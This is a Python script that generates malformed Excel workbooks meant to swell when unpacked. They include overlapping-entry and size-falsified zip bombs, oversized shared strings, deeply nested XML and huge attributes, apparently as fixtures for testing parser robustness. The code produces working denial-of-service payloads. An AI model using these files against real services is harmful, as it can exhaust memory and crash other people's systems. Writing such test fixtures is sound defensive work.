"""Writes workbooks that swell when they are unpacked, each in its own way.

    make_bombs.py DIR
"""

import os
import random
import struct
import sys
import zipfile
import zlib

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET = "xl/worksheets/sheet1.xml"


def relations(*targets):
    items = "".join(f'<Relationship Id="rId{number}" Type="{OFFICE}/{kind}" Target="{target}"/>'
                    for number, (kind, target) in enumerate(targets, 1))
    return f'<Relationships xmlns="{PACKAGE}">{items}</Relationships>'


FRAME = {
    "_rels/.rels": relations(("officeDocument", "xl/workbook.xml")),
    "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>'
                       '<sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": relations(("worksheet", "worksheets/sheet1.xml"),
                                            ("sharedStrings", "sharedStrings.xml")),
    "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}"/>',
    SHEET: f'<worksheet xmlns="{MAIN}"><sheetData/></worksheet>',
}


def write(path, **parts):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in FRAME.items():
            archive.writestr(name, parts.get(name.split("/")[-1].split(".")[0], text))


def with_size(path, name, size):
    """Changes the size that the archive declares for a part, in both places."""
    with zipfile.ZipFile(path) as archive:
        old = archive.getinfo(name).file_size
    with open(path, "r+b") as file:
        data = file.read()
        field = struct.pack("<I", old) + struct.pack("<H", len(name))
        assert data.count(field) == 2
        file.seek(0)
        file.write(data.replace(field, struct.pack("<I", size) + field[4:]))


def noise(length=600):
    """Digits that deflate makes little of, always the same."""
    return random.Random(length).randbytes(length // 2).hex()


def overlapping(path, count):
    """Every part holds the header of the next as its first stored block, and all end in one kernel."""
    compress = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = compress.compress(b" " * (1 << 20)) + compress.flush()
    data, entries = kernel, []
    size, check, packed = 1 << 20, zlib.crc32(b" " * (1 << 20)), len(kernel)
    body = b" " * (1 << 20)
    for number in reversed(range(count)):
        name = f"part{number}".encode()
        header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, check, packed, size, len(name), 0) + name
        entries.insert(0, (name, check, packed, size, header))
        data = header + data
        if number:
            quote = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF)
            body = header + body
            data = quote + data
            size, check, packed = len(body), zlib.crc32(body), len(data)
    at, directory = 0, b""
    for name, check, packed, size, header in entries:
        directory += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, check, packed, size,
                                 len(name), 0, 0, 0, 0, 0, at) + name
        at += len(header) + 5
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), len(data), 0)
    with open(path, "wb") as file:
        file.write(data + directory + end)


def main(folder):
    place = lambda name: os.path.join(folder, name)
    swollen = FRAME[SHEET].replace("<sheetData/>", "<sheetData/>" + " " * (100 << 20))
    write(place("ratio.xlsx"), sheet1=swollen)
    write(place("understated.xlsx"), sheet1=swollen)
    with_size(place("understated.xlsx"), SHEET, 1 << 19)
    overlapping(place("overlapping.xlsx"), 300)
    strings = "<si><t>" + "x" * 60000 + "</t></si>"
    write(place("strings.xlsx"), sharedStrings=f'<sst xmlns="{MAIN}">' + (strings + noise()) * 3000 + "</sst>")
    cells = "".join("<c><v>1</v></c>" for _ in range(16384))
    write(place("columns.xlsx"), sheet1=FRAME[SHEET].replace("<sheetData/>", f"<sheetData><row>{cells}</row></sheetData>"))
    write(place("deep.xlsx"), sheet1=FRAME[SHEET].replace("<sheetData/>", "<a>" * 70_000 + "</a>" * 70_000))
    write(place("attribute.xlsx"), sheet1=FRAME[SHEET].replace("<sheetData/>", f'<sheetData a="{noise(12 << 20)}"/>'))
    with zipfile.ZipFile(place("parts.xlsx"), "w") as archive:
        for number in range(20_000):
            archive.writestr(f"{number}", "")


if __name__ == "__main__":
    main(*sys.argv[1:])
